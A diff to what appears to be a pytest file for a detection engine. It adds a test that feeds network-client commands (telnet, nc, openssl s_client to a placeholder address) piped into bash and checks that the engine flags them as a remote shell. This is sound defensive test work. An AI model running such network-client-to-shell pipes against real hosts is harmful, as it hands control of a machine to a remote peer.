@@ -185,6 +185,18 @@ def test_a_download_that_looks_routine_joins_the_incident_its_file_starts(engine
     assert len({v.incident for v in verdicts}) == 1 and verdicts[0].incident
 
 
+@pytest.mark.parametrize("client", ["telnet 198.51.100.7 4444", "nc 198.51.100.7 4444",
+                                    "openssl s_client -quiet -connect 198.51.100.7:4443"])
+def test_a_network_client_piped_into_a_shell_is_a_remote_shell(engine, client):
+    """`telnet HOST PORT | bash` runs what the peer sends, as `curl URL | sh` runs what it downloads."""
+    session = Session()
+    events = [session.exec(client, 100, "bash", stdout="pipe:77"),
+              session.exec("bash", 100, "bash", gap=0.001, stdin="pipe:77")]
+    verdicts = _score(engine, events)
+    assert any(r.startswith("what a network peer sends is run by bash") for r in verdicts[1].reasons), verdicts[1]
+    assert verdicts[1].severity == "alert" and verdicts[0].incident == verdicts[1].incident != ""
+
+
 def test_a_connection_of_a_pipe_end_keeps_its_exec_in_the_pipe(engine):
     """The agent also reports curl's connection (same pid, no argv, no stdio): curl's exec record still
     joins the incident of the sh it feeds."""
